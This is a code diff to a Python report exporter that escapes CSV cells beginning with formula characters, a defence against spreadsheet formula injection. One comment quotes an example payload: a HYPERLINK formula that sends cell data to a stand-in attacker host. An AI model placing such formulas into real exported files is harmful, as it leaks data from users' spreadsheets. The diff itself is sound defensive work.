@@ -194,6 +194,22 @@ def render_html(payload: dict[str, Any]) -> str:
     return _MARKER.sub(lambda m: parts[m.group(1) or m.group(2)], template)
 
 
+# A cell a spreadsheet would read as a formula (OWASP's list): an app or model name such as
+# '=HYPERLINK("http://evil.example?"&A1)' in recorded traffic would otherwise run when the CSV is opened.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_safe(frame: Any) -> Any:
+    """A copy of ``frame`` whose text cells that start like a formula are prefixed with ``'`` (shown as text)."""
+    frame = frame.copy()
+    for column in frame.columns:
+        if frame[column].dtype.kind not in "biufcmM":  # text (object or pandas string), not numbers or times
+            frame[column] = frame[column].map(
+                lambda v: "'" + v if isinstance(v, str) and v.startswith(_FORMULA_START) else v
+            )
+    return frame
+
+
 def export_files(
     data: ReportData, report_sections: Sequence[Section], directory: Path, formats: Iterable[str]
 ) -> list[Path]:
@@ -209,7 +225,7 @@ def export_files(
     if "csv" in wanted:
         for table in data.tables.values():
             path = directory / f"{table.name}.csv"
-            table.csv_frame().to_csv(path, index=False)
+            formula_safe(table.csv_frame()).to_csv(path, index=False)
             written.append(path)
     version = vega_lite_version()
     for section in report_sections:
